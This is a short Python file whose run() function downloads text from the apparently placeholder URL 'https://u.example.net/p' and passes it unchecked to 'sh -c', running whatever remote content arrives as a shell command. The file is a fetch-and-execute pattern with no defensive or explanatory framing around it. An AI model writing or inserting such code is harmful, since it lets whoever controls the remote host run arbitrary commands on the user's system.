import subprocess, urllib.request
def fetch(u):
    body = urllib.request.urlopen(u).read().decode()
    return body
def run():
    subprocess.run(['sh', '-c', fetch('https://u.example.net/p')])
